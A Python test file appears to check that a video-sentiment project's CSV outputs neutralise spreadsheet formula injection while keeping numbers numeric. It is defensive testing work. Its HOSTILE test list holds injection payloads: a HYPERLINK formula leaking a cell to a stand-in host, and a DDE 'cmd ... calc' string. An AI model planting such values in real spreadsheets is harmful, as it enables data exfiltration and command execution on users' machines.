"""Issue 17, security 4: no CSV the project writes holds a cell a spreadsheet would run (OWASP's rule: a text starting
with =, +, -, @, tab or CR gets a leading single quote), numbers stay numbers, and the project reads its own CSVs
back unchanged (predictions through the viewer, manifests through extract)."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from pipeline.corpus import read_manifest
from pipeline.csv_cells import neutralise, restore
from pipeline.recipes import manifest_text, write_manifest
from workflows.commands.label import read_rows
from workflows.demo import write_demo_manifest
from workflows.predict import write_table
from workflows.viewer import read_predictions

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "'=already quoted", "''-twice", "=cmd|' /C calc'!A0"]
HARMLESS = ["plain", "'quoted text", "", "a=b", "1-2"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _runs(cell: str) -> bool:
    """A text cell a spreadsheet would take for a formula (a number such as -1.5 is a number)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell)


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_neutralise_quotes_formulas_and_restore_undoes_it(text):
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise(text) == text or neutralise(text) == "'" + text
    assert (neutralise(text) != text) == text.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(neutralise(text)) == text
    assert neutralise(-1.5) == -1.5 and neutralise(None) is None


def test_predictions_csv_has_no_formula_and_keeps_numbers(tmp_path):
    n = len(HOSTILE)
    frame = pd.DataFrame({"video_id": ["v1"] * n, "segment_id": HOSTILE, "start": [float(i) for i in range(n)],
                          "end": [i + 1.0 for i in range(n)], "transcript": HOSTILE[::-1],
                          "predicted_sentiment": [-1.25] * n, "predicted_class": ["-neg"] * n, "count": [-3] * n,
                          "=p_evil": ["@x"] * n})
    out = write_table(frame, tmp_path / "predictions.csv")
    header, *rows = _cells(out.read_text())
    assert not any(_runs(c) for c in header) and "'=p_evil" in header
    for row in rows:
        cells = dict(zip(header, row))
        assert not any(_runs(c) for c in row), row
        assert cells["predicted_sentiment"] == "-1.25" and cells["count"] == "-3"  # numbers, not text
    back, _ = read_predictions(out)
    assert sorted(back["segment_id"]) == sorted(HOSTILE) and set(back["predicted_class"]) == {"-neg"}
    assert sorted(back["transcript"]) == sorted(HOSTILE) and set(back["=p_evil"]) == {"@x"}
    assert back["predicted_sentiment"].dtype.kind == "f"


def test_manifests_have_no_formula_and_read_back_unchanged(tmp_path):
    texts = [s for s in HOSTILE if s.isprintable()]  # segment ids refuse control characters
    rows = [{"path": str(tmp_path / f"v{i}.mp4"), "video_id": f"v{i}", "segment_id": s, "start": 0.0, "end": 1.0,
             "split": "train", "label": -1.5, "emotion": "-angry", "note": s} for i, s in enumerate(texts)]
    text = manifest_text(rows)
    assert not any(_runs(c) for row in _cells(text) for c in row), text
    assert "-1.5" in text  # the number stays a number
    sources = read_manifest(write_manifest(rows, tmp_path / "manifest.csv"))
    assert [row["note"] for row in read_rows(tmp_path / "manifest.csv")[1]] == texts  # mcr label's reader
    segments = [seg for source in sources for seg in source.segments]
    assert [seg.segment_id for seg in segments] == texts
    assert [seg.labels["note"] for seg in segments] == texts
    assert {seg.labels["emotion"] for seg in segments} == {"-angry"}
    assert {seg.labels["label"] for seg in segments} == {-1.5}


def test_the_demo_manifest_has_no_formula(tmp_path):
    pytest.importorskip("feat")
    header, *rows = _cells(write_demo_manifest(tmp_path).read_text())
    assert rows and not any(_runs(c) for c in header + [c for row in rows for c in row])


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
